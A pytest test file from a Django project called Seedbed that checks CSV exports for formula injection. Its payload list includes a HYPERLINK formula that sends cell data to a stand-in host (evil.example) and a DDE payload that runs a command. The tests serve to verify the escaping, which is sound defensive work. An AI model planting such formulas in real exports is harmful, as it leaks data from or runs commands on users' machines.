"""CSV exports cannot carry formulas: one shared writer escapes OWASP's formula prefixes and
keeps real numbers numeric; every download is checked with hostile values in its text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from seedbed.core.exports import (
    ESCAPE,
    FORMULA_PREFIXES,
    escape_cell,
    export_dict_writer,
    export_writer,
)

PAYLOADS = (
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
)
NUMBERS = ("-12.50", "+3", "-1.5e3", "-.5", "42")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower() not in ("nan", "inf", "-inf", "+inf")


def assert_no_formula_cells(text: str) -> None:
    """No cell of ``text`` starts with a formula prefix unless it is a plain number."""
    bad = [c for c in _cells(text) if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert not bad, f"cells a spreadsheet would run as formulas: {bad!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_prefixes_are_quoted(payload: str) -> None:
    assert escape_cell(payload) == ESCAPE + payload


@pytest.mark.parametrize("number", NUMBERS)
def test_real_numbers_stay_numeric(number: str) -> None:
    assert escape_cell(number) == number


def test_other_values_pass_through() -> None:
    assert escape_cell(Decimal("-3.20")) == Decimal("-3.20")
    assert escape_cell(-7) == -7 and escape_cell(None) is None
    assert escape_cell("plain =text") == "plain =text"
    assert escape_cell("'=already") == "'=already"


def test_both_writers_escape_every_cell() -> None:
    out = io.StringIO()
    writer = export_writer(out)
    writer.writerow([*PAYLOADS, *NUMBERS])
    writer.writerows([[p] for p in PAYLOADS])
    text = out.getvalue()
    assert_no_formula_cells(text)
    assert "-12.50" in _cells(text) and ESCAPE + "-2+3" in _cells(text)
    out = io.StringIO()
    dict_writer = export_dict_writer(out, fieldnames=["a", "b"])
    dict_writer.writeheader()
    dict_writer.writerow({"a": PAYLOADS[0], "b": "-4.5"})
    dict_writer.writerows([{"a": p, "b": p} for p in PAYLOADS])
    assert_no_formula_cells(out.getvalue())
    assert _cells(out.getvalue())[2:4] == [ESCAPE + PAYLOADS[0], "-4.5"]


@pytest.mark.django_db
def test_grants_360giving_and_transparency_csv_carry_no_formulas(demo_world, client_as) -> None:  # type: ignore[no-untyped-def]
    from seedbed.accounts.models import Organisation
    from seedbed.funding.models import Application, Award

    award = Award.objects.exclude(status=Award.Status.DECLINED).filter(
        application__isnull=False, application__organisation__isnull=False).first()
    assert award is not None and award.application is not None
    application = award.application
    Application.objects.filter(pk=application.pk).update(title=PAYLOADS[0], summary=PAYLOADS[1])
    Organisation.objects.filter(pk=application.organisation_id).update(name=PAYLOADS[4])
    client = client_as("anonymous")
    for name in ("funding:grants_360_csv", "funding:grants_transparency_csv"):
        text = client.get(reverse(name)).content.decode()
        assert ESCAPE + PAYLOADS[0] in _cells(text), name
        assert_no_formula_cells(text)


@pytest.mark.django_db
def test_library_cases_csv_carries_no_formulas(demo_world, client_as) -> None:  # type: ignore[no-untyped-def]
    from seedbed.library.models import Case

    case = Case.objects.filter(status="published").first()
    assert case is not None
    Case.objects.filter(pk=case.pk).update(title=PAYLOADS[0], summary=PAYLOADS[2],
                                           lessons_worked=PAYLOADS[5], setting=PAYLOADS[4])
    text = client_as("anonymous").get(reverse("library:export_csv")).content.decode()
    assert ESCAPE + PAYLOADS[0] in _cells(text)
    assert_no_formula_cells(text)


@pytest.mark.django_db
def test_voices_csv_carries_no_formulas_and_keeps_coordinates_numeric(demo_world, client_as) -> None:  # type: ignore[no-untyped-def]
    from seedbed.participation.models import Contribution

    need = Contribution.objects.get(title="Fly-tipping behind the Eastside shops")
    Contribution.objects.filter(pk=need.pk).update(
        title=PAYLOADS[0], body=PAYLOADS[3], area_name=PAYLOADS[4], who_affected=PAYLOADS[6],
        latitude=Decimal("52.412345"), longitude=Decimal("-1.965432"))
    text = client_as("anonymous").get(reverse("participation:export_csv")).content.decode()
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows[need.reference]["title"] == ESCAPE + PAYLOADS[0]
    assert rows[need.reference]["longitude"] == "-1.965"
    assert_no_formula_cells(text)


NOT_EXPORTS = {
    "core/exports.py": "the shared writer itself",
    "pb/pabulib.py": "the Pabulib format, read by participatory-budgeting tools",
    "cli/stats.py": "the allocation list, read back by unit id",
    "trials/uploads.py": "the allocation list handed to the data validator",
    "demo/trials.py": "demo outcome files, uploaded again by the demo",
    "demo/trial_outcomes.py": "demo outcome files, uploaded again by the demo",
    "demo/evaluations.py": "demo evaluation data files, uploaded by the demo",
}


def test_no_download_is_written_by_a_raw_csv_writer() -> None:
    """A new export must use the shared writer; files only Seedbed reads back are listed."""
    from pathlib import Path

    import seedbed

    root = Path(seedbed.__file__).parent
    raw = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter(" in text
    }
    assert raw <= set(NOT_EXPORTS), f"use seedbed.core.exports for: {sorted(raw - set(NOT_EXPORTS))}"
